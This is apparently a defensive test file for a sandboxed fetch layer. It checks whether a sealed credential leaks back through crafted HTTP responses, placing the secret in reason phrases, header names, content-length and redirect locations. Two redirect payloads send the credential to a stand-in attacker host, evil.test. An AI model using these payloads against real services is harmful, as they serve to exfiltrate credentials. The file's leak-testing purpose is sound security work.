/*
 * X23 Has the credential echoed as a reason phrase, as the name of a header, in a location and in broken answers
 * wall: secrets
 * ends: returns "nothing"
 * limits: { "wallMs": 25000 }
 */
export default async (input, env) => {
	const raw = (text) => `http://${input.upstream}/raw?base64=${encodeURIComponent(btoa(text))}`;
	const tries = [
		raw("HTTP/1.1 200 {credential}\r\ncontent-length: 2\r\n\r\nok"),
		raw("HTTP/1.1 200 OK\r\n{credential}: yes\r\ncontent-length: 2\r\n\r\nok"),
		raw("HTTP/1.1 200 OK\r\nx-a: {credential}\r\nx-a: {credential}\r\ncontent-type: text/{credential}\r\ncontent-length: 2\r\n\r\nok"),
		raw("HTTP/1.1 {credential} OK\r\n\r\n"),
		raw("{credential}"),
		raw("HTTP/1.1 200 OK\r\ncontent-length: {credential}\r\n\r\nok"),
		raw("HTTP/1.1 401 No\r\nwww-authenticate: Bearer realm=\"{credential}\"\r\ncontent-length: 0\r\n\r\n"),
		raw("HTTP/1.1 302 Found\r\nlocation: /landed?token={credential}\r\ncontent-length: 0\r\n\r\n"),
		raw("HTTP/1.1 302 Found\r\nlocation: http://evil.test/{credential}\r\ncontent-length: 0\r\n\r\n"),
		raw("HTTP/1.1 302 Found\r\nlocation: http://{credential}@evil.test/\r\ncontent-length: 0\r\n\r\n"),
	];
	const said = await Promise.all(tries.flatMap((url) => ["follow", "manual", "error"].map((redirect) => env.web.fetch(url, { redirect }).then(async (r) => JSON.stringify([r.status, r.statusText, r.url, [...r.headers], await r.text()]), (e) => JSON.stringify([e.code, e.message, e.hint, e.stack])))));
	return said.some((text) => /sealed|c2VhbGVk|7365616c6564/i.test(text)) ? "ESCAPED" : "nothing";
};
